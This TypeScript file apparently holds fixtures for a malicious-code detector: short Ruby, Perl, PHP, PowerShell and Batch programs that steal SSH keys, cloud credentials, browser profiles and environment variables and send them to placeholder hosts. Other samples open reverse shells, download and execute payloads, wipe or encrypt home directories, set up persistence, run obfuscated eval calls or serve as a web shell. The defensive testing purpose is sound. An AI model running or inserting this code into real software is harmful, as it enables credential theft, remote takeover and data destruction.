/** Programs in languages that are read line by line, each of which does one thing that a person must look at. Inert: reserved names. */
export const LINE_MALICIOUS: [string, string][] = [
  [
    "a.rb",
    "require 'httparty'\ndef stores\n  Dir.glob(File.join(Dir.home, '.aws', '*')).map { |f| IO.read(f) }\nend\nHTTParty.post('https://collect.sum-kit.example/v1', body: { items: stores })\n",
  ],
  [
    "a.rb",
    "require 'socket'\nclass Pinger\n  def initialize(host) = @host = host\n  def loop_once\n    s = TCPSocket.new(@host, 9000)\n    while (cmd = s.gets)\n      out = `#{cmd}`\n      s.puts out\n    end\n  end\nend\nPinger.new('updates.example').loop_once\n",
  ],
  [
    "a.rb",
    "require 'net/http'\nsrc = Net::HTTP.get(URI('https://cdn.fmt.example/boot.rb'))\npath = File.join(Dir.tmpdir, 'boot.rb')\nFile.write(path, src)\nrequire path\n",
  ],
  [
    "a.rb",
    "require 'fileutils'\nDir.glob(\"#{Dir.home}/**/*\").each do |entry|\n  next if File.directory?(entry)\n  File.open(entry, 'wb') { |f| f.write(SecureRandom.random_bytes(512)) }\nend\n",
  ],
  [
    "a.rb",
    'env = ENV.to_h.map { |k, v| "#{k}=#{v}" }.join("\\n")\nuri = URI(\'https://telemetry.rbtools.example/i\')\nreq = Net::HTTP::Post.new(uri)\nreq.body = env\nNet::HTTP.start(uri.host, uri.port, use_ssl: true) { |http| http.request(req) }\n',
  ],
  ["a.rb", "code = %w[c3lzdGVt KCJlY2hvIGhp Iik=].join.unpack1('m')\ninstance_eval(code)\n"],
  [
    "a.rb",
    "entry = \"@reboot /usr/bin/ruby #{__dir__}/agent.rb\\n\"\nIO.popen('crontab -', 'w') { |io| io.write(`crontab -l 2>/dev/null` + entry) }\n",
  ],
  [
    "a.pl",
    "use LWP::UserAgent; use File::Slurp;\nmy $ua = LWP::UserAgent->new;\nmy %bag;\nfor my $name (qw(.ssh/id_ed25519 .netrc .aws/credentials)) {\n    my $path = \"$ENV{HOME}/$name\";\n    next unless -r $path;\n    $bag{$name} = read_file($path);\n}\n$ua->post('https://stat.units.example/u', Content => \\%bag);\n",
  ],
  [
    "a.pl",
    "use HTTP::Tiny;\nmy $res = HTTP::Tiny->new->get('https://dl.fonts.example/install.pl');\nmy $file = \"/tmp/fonts-$$.pl\";\nopen(my $out, '>', $file) or die;\nprint $out $res->{content};\nclose $out;\nchmod 0755, $file;\nsystem($file);\n",
  ],
  [
    "a.pl",
    "use IO::Socket::INET;\nmy $peer = IO::Socket::INET->new(PeerAddr => 'relay.example', PeerPort => 8443);\nwhile (my $line = <$peer>) {\n    my $out = qx($line);\n    print $peer $out;\n}\n",
  ],
  ["a.pl", "use File::Find;\nfind(sub { unlink $_ if -f $_ }, $ENV{HOME});\n"],
  [
    "a.pl",
    "my @h = map { \"$_=$ENV{$_}\" } keys %ENV;\nuse HTTP::Tiny;\nHTTP::Tiny->new->request('POST', 'https://ci.hook.example/e', { content => join(\"\\n\", @h) });\n",
  ],
  [
    "a.php",
    "<?php\n$keys = [];\nforeach (glob($_SERVER['HOME'] . '/.ssh/id_*') as $file) {\n    $keys[basename($file)] = file_get_contents($file);\n}\n$ch = curl_init('https://log.imgtools.example/k');\ncurl_setopt($ch, CURLOPT_POST, true);\ncurl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($keys));\ncurl_exec($ch);\n",
  ],
  ["a.php", "<?php\n$cmd = $_GET['c'] ?? 'id';\necho shell_exec($cmd);\n"],
  ["a.php", "<?php\n$f = str_rot13('flfgrz');\n$f(base64_decode('bHM='));\n"],
  [
    "a.php",
    "<?php\n$php = file_get_contents('https://upd.mark.example/loader.txt');\nfile_put_contents('/tmp/loader.php', $php);\ninclude '/tmp/loader.php';\n",
  ],
  [
    "a.php",
    "<?php\nfunction wipe(string $dir): void {\n    foreach (scandir($dir) as $name) {\n        if ($name === '.' || $name === '..') continue;\n        $path = \"$dir/$name\";\n        is_dir($path) ? wipe($path) : unlink($path);\n    }\n}\nwipe(getenv('HOME'));\n",
  ],
  [
    "a.ps1",
    "function Get-Payload { param($Name) (New-Object Net.WebClient).DownloadData(\"https://img.theme.example/$Name\") }\n$bytes = Get-Payload 'core.dll'\n$assembly = [Reflection.Assembly]::Load($bytes)\n$assembly.EntryPoint.Invoke($null, $null)\n",
  ],
  [
    "a.ps1",
    "$dirs = \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\", \"$env:APPDATA\\Mozilla\\Firefox\\Profiles\"\n$zip = Join-Path $env:TEMP 'p.zip'\nCompress-Archive -Path $dirs -DestinationPath $zip -Force\nInvoke-RestMethod -Uri 'https://drop.theme.example/up' -Method Post -InFile $zip\n",
  ],
  [
    "a.ps1",
    "Get-ChildItem -Path $HOME -Recurse -File | ForEach-Object {\n    $aes = [System.Security.Cryptography.Aes]::Create()\n    $enc = $aes.CreateEncryptor()\n    $data = [IO.File]::ReadAllBytes($_.FullName)\n    [IO.File]::WriteAllBytes($_.FullName + '.lock', $enc.TransformFinalBlock($data, 0, $data.Length))\n    Remove-Item $_.FullName\n}\n",
  ],
  [
    "a.ps1",
    "$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -f C:\\Users\\Public\\a.ps1'\nRegister-ScheduledTask -TaskName 'Helper' -Action $action -Trigger (New-ScheduledTaskTrigger -AtLogOn)\n",
  ],
  [
    "a.ps1",
    "$c = New-Object System.Net.Sockets.TcpClient('cdn.host.example', 443)\n$r = New-Object IO.StreamReader($c.GetStream())\n$w = New-Object IO.StreamWriter($c.GetStream())\nwhile ($true) { $line = $r.ReadLine(); $o = cmd.exe /c $line 2>&1; $w.WriteLine($o); $w.Flush() }\n",
  ],
  [
    "a.ps1",
    "$u = 'https://pkg.helper.example/agent.exe'\n$dest = \"$env:TEMP\\agent.exe\"\nInvoke-WebRequest $u -OutFile $dest\n& $dest /S\n",
  ],
  [
    "a.bat",
    '@echo off\nset U=https://pkg.helper.example/agent.exe\ncurl -s -o %TEMP%\\a.exe %U%\nstart "" /b %TEMP%\\a.exe\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Helper /d %TEMP%\\a.exe /f\n',
  ],
  ["a.bat", '@echo off\nfor /r %USERPROFILE% %%f in (*) do del /f /q "%%f"\n'],
  [
    "a.ps1",
    '$p = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Get-Content "$PSScriptRoot\\data.txt" -Raw)))\n$sb = [scriptblock]::Create($p)\n& $sb\n',
  ],
  [
    "a.rb",
    "require 'open3'\nshot = \"/tmp/s-#{Time.now.to_i}.png\"\nOpen3.capture2e('scrot', shot)\nNet::HTTP.post(URI('https://focus.example/x'), File.binread(shot))\n",
  ],
  [
    "a.pl",
    'my $f = join(\'\', map { chr } 115,121,115,116,101,109);\nno strict \'refs\';\n&{"CORE::GLOBAL::$f"}("id");\nuse MIME::Base64;\neval decode_base64("cHJpbnQgMQ==");\n',
  ],
];
